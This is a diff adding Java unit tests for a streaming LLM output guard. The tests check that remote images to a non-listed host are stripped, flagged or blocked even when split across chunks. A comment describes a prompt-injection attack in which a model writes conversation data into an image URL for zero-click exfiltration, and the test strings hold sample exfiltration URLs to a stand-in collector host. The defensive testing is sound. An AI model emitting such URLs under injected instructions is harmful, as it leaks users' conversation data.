@@ -111,6 +111,48 @@ class StreamedAnswerTest {
         }
     }
 
+    /**
+     * The zero-click exfiltration an injected instruction asks for: the model writes conversation data into an image
+     * URL, and the chat interface fetches it as soon as it renders the answer. However the stream is cut, no piece of
+     * the URL leaves before the image is whole and judged; images on the page's own origin or a listed host pass.
+     */
+    @org.junit.jupiter.params.ParameterizedTest(name = "window {0}")
+    @org.junit.jupiter.params.provider.ValueSource(ints = {0, 32, 64})
+    void aRemoteImageSplitAcrossChunksNeverLeavesInPart(int window) {
+        Guard guard = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
+                new GuardPolicy.Output(null, null, null, window, null, null, List.of("cdn.example.com")), null));
+        String answer = "Done. ![status](https://collector.example.net/p.png?d=the%20quarterly%20numbers \"ok\") Logo: ![logo](https://cdn.example.com/l.png) "
+                + "local ![a b](/img/a.png) and <img alt=\"x y\" src=\"//collector.example.net/q?d=more\"> then [ref]: https://collector.example.net/r bye.";
+        String expected = "Done. [REMOTE_IMAGE] Logo: ![logo](https://cdn.example.com/l.png) local ![a b](/img/a.png) and [REMOTE_IMAGE] then [REMOTE_IMAGE] bye.";
+        for (int seed = 0; seed < 100; seed++) {
+            Random rnd = new Random(seed);
+            Run r = run(guard, null, sse(pieces(answer, rnd, 1 + seed % 9)), rnd);
+            assertThat(content(r.output())).as("seed %d", seed).isEqualTo(expected);
+            for (String sent : r.sentAfterEachWrite()) {
+                assertThat(sent).as("seed %d: partial output", seed).doesNotContain("collector", "quarterly");
+                assertThat(expected).as("seed %d: every prefix sent is a prefix of the answer as decided", seed).startsWith(sent);
+            }
+        }
+    }
+
+    @Test
+    void aRemoteImageCanBeFlaggedOrBlockInstead() {
+        String answer = "See ![x](https://collector.example.net/?d=1) here.";
+        Guard flag = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
+                new GuardPolicy.Output(null, null, null, 32, null, Action.FLAG, null), null));
+        AnswerRecord record = new AnswerRecord();
+        StreamedAnswer a = new StreamedAnswer(LlmApi.CHAT, flag, null, 32, record);
+        String out = a.feed(Buffer.buffer(sse(List.of(answer)))).toString() + a.finish();
+        assertThat(content(out)).isEqualTo(answer);
+        assertThat(record.actions()).containsEntry("REMOTE_IMAGE", Action.FLAG);
+        Guard block = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
+                new GuardPolicy.Output(null, null, null, 32, null, Action.BLOCK, null), null));
+        StreamedAnswer b = new StreamedAnswer(LlmApi.CHAT, block, null, 32, new AnswerRecord());
+        String cut = b.feed(Buffer.buffer(sse(List.of("See ", "![x](https://coll", "ector.example.net/?d=1) here.")))).toString();
+        assertThat(b.blocked()).isNotNull();
+        assertThat(content(cut)).doesNotContain("collector").doesNotContain("![");
+    }
+
     @Test
     void theIssuesExampleJoHnAtExamPleComIsCaught() {
         Run r = run(REDACT, null, sse(List.of("mail jo", "hn@exam", "ple.com now")), new Random(1));
